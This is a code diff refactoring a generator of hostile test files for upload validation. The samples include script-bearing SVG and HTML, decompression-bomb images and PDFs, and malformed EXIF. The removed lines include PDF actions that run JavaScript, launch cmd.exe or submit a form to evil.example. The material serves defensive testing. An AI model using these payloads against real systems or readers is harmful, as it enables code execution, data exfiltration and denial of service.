@@ -1,28 +1,16 @@
-import { deflateSync, gzipSync } from 'node:zlib';
+import { gzipSync } from 'node:zlib';
 import { type Random, randomOf } from '../demo/seeded.ts';
 import * as make from '../platform/files/samples/make.ts';
+import { type Add, html, type MaliciousFile, script } from './malicious-file.ts';
+import { papers } from './malicious-papers.ts';
+import { unfolding } from './malicious-pictures.ts';
 
 /*
  * Three hundred files and more that somebody sends who means harm, each made by code and the same every
  * time: files that are two things at once, that unfold, that lie about themselves, that carry something that
  * runs, that are broken where a reader would stumble, and names that would leave their place.
  */
-export type MaliciousFile = {
-  readonly what: string;
-  readonly bytes: Buffer;
-  /** As the sender calls it, and says that it is. */
-  readonly name: string;
-  readonly type: string;
-  /** Whether it must be refused; otherwise it may also be kept, as what it is and inert. */
-  readonly refused: boolean;
-  /** The media type that it is; null where its damage may make another of it. */
-  readonly is: string | null;
-};
 
-type Wish = Partial<Omit<MaliciousFile, 'what' | 'bytes'>>;
-
-const script = '<script>window.__owned=1</script>';
-const html = `<!doctype html><html><body onload="window.__owned=1">${script}</body></html>`;
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__owned=1">${script}</svg>`;
 
 const payloads: readonly (readonly [string, Buffer])[] = [
@@ -64,7 +52,7 @@ const names: readonly (readonly [string, string])[] = [
 
 export async function maliciousFiles(): Promise<MaliciousFile[]> {
   const files: MaliciousFile[] = [];
-  const add = (what: string, bytes: Buffer | string, wish: Wish = {}) => {
+  const add: Add = (what, bytes, wish = {}) => {
     const { name = 'photo.jpg', type = 'image/jpeg', refused = false, is = null } = wish;
     files.push({ what, bytes: Buffer.from(bytes as string), name, type, refused, is });
   };
@@ -83,7 +71,7 @@ export async function maliciousFiles(): Promise<MaliciousFile[]> {
   twoAtOnce(sound, add);
   liars(sound, add);
   active(add);
-  unfolding(sound, add);
+  unfolding(sound.JPEG!, add);
   papers(add);
   broken(sound, random, add);
   return files;
@@ -95,7 +83,6 @@ const types: Record<string, string> = {
   MP4: 'video/mp4',
 };
 
-type Add = (what: string, bytes: Buffer | string, wish?: Wish) => void;
 type Sound = Record<string, Buffer>;
 
 function twoAtOnce(sound: Sound, add: Add): void {
@@ -180,113 +167,6 @@ function active(add: Add): void {
     'a Flash film': Buffer.from('FWS\x09\0\0\0\0', 'latin1'),
   };
   for (const [what, bytes] of Object.entries(archives)) add(what, bytes, refused);
-}
-
-function unfolding(sound: Sound, add: Add): void {
-  const refused = { refused: true };
-  for (const [width, height] of [
-    [50_000, 50_000],
-    [100_000, 30_000],
-    [2_147_483_647, 1],
-    [1, 2_147_483_647],
-    [0, 0],
-  ] as const) {
-    add(
-      `a PNG of ${width} × ${height}`,
-      make.blackPng(width, height, Math.min(height, width > 1_000_000 ? 0 : 200)),
-      refused,
-    );
-  }
-  for (const [width, height] of [
-    [65_500, 65_500],
-    [65_535, 20_000],
-    [0, 48],
-  ] as const) {
-    add(`a JPEG of ${width} × ${height}`, make.jpegOfSize(sound.JPEG!, width, height), refused);
-  }
-  const segment = (marker: number, body: Buffer) => {
-    const head = Buffer.from([0xff, marker, 0, 0]);
-    head.writeUInt16BE(body.length + 2, 2);
-    return Buffer.concat([head, body]);
-  };
-  const jpegWith = (...parts: Buffer[]) =>
-    Buffer.concat([sound.JPEG!.subarray(0, 2), ...parts, sound.JPEG!.subarray(2)]);
-  const exif = (body: Buffer) => segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), body]));
-  const tiff = (entries: number[][], next = 0) => {
-    const bytes = Buffer.alloc(14 + entries.length * 12);
-    bytes.write('II*\0', 0, 'latin1');
-    bytes.writeUInt32LE(8, 4);
-    bytes.writeUInt16LE(entries.length, 8);
-    for (const [at, [tag = 0, type = 0, count = 0, value = 0]] of entries.entries()) {
-      bytes.writeUInt16LE(tag, 10 + at * 12);
-      bytes.writeUInt16LE(type, 12 + at * 12);
-      bytes.writeUInt32LE(count, 14 + at * 12);
-      bytes.writeUInt32LE(value, 18 + at * 12);
-    }
-    bytes.writeUInt32LE(next, 10 + entries.length * 12);
-    return bytes;
-  };
-  const jpeg = { is: types.JPEG! };
-  add('EXIF that leads back to itself', jpegWith(exif(tiff([[0x8769, 4, 1, 8]], 8))), jpeg);
-  add(
-    'EXIF with a count of four thousand million',
-    jpegWith(exif(tiff([[0x010e, 2, 0xffffffff, 8]]))),
-    jpeg,
-  );
-  add('EXIF that points beyond the file', jpegWith(exif(tiff([[0x8825, 4, 1, 0x7fffffff]]))), jpeg);
-  add('EXIF of an unknown kind', jpegWith(exif(tiff([[0x010e, 99, 1, 1]]))), jpeg);
-  add('EXIF that is a page', jpegWith(exif(Buffer.from(html))), jpeg);
-  add('a comment that is a script', make.withComment(sound.JPEG!, script), jpeg);
-  add('a comment as long as can be', make.withComment(sound.JPEG!, 'x'.repeat(65_000)), jpeg);
-  add(
-    'a thousand segments',
-    jpegWith(...Array(1000).fill(segment(0xec, Buffer.alloc(2000)))),
-    jpeg,
-  );
-  add(
-    'a colour profile that is none',
-    jpegWith(segment(0xe2, Buffer.from('ICC_PROFILE\0\x01\xff'))),
-    jpeg,
-  );
-}
-
-function papers(add: Add): void {
-  const acting: Record<string, readonly [string, string]> = {
-    'a script when it is opened': ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', ''],
-    'scripts by name': [
-      '/Names << /JavaScript << /Names [(x) 4 0 R] >> >>',
-      '<< /S /JavaScript /JS (x) >>',
-    ],
-    'a script in escaped words': ['/OpenAction << /S /J#61vaScript /J#53 (x) >>', ''],
-    'a program to start': ['/OpenAction << /S /Launch /F (cmd.exe) >>', ''],
-    'a file within': [
-      '/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>',
-      '<< /Type /Filespec /EF << >> >>',
-    ],
-    'another paper to open': ['/OpenAction << /S /GoToE /D [0] >>', ''],
-    'a form to send elsewhere': ['/OpenAction << /S /SubmitForm /F (http://evil.example) >>', ''],
-    'a form of XFA': ['/AcroForm << /XFA 4 0 R >>', '<< /Length 0 >>'],
-    'an act with every page': ['/AA << /O << /S /JavaScript /JS (x) >> >>', ''],
-    'a film with a program': ['', '<< /Type /Annot /Subtype /RichMedia >>'],
-  };
-  for (const [what, [catalogue, part]] of Object.entries(acting)) {
-    const parts = part === '' ? [] : [{ dict: part }];
-    // A paper may carry papers: who reads it is told.
-    const refused = !/file within|another paper/.test(what);
-    const is = types.PDF!;
-    add(`a PDF with ${what}`, make.pdf(parts, '', catalogue), { refused, is });
-    const hidden = make.objectStream(`1 0 << ${catalogue} >> ${part}`);
-    add(`a PDF with ${what}, compressed`, make.pdf([hidden]), { refused, is });
-  }
-  add('a PDF under a password', make.pdf([], '/Encrypt << /Filter /Standard /V 1 /R 2 >>'), {
-    refused: true,
-  });
-  add('a PDF that unfolds', make.pdf([make.objectStream(Buffer.alloc(80_000_000))]));
-  const twice = deflateSync(deflateSync(Buffer.alloc(50_000_000)));
-  const dict = `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length} >>`;
-  add('a PDF that unfolds twice', make.pdf([{ dict, stream: twice }]));
-  add('a PDF of ten thousand brackets', make.pdf([{ dict: '<<'.repeat(10_000) }]));
-  add('a PDF that is cut', make.pdf().subarray(0, 200));
 }
 
 function broken(sound: Sound, random: Random, add: Add): void {
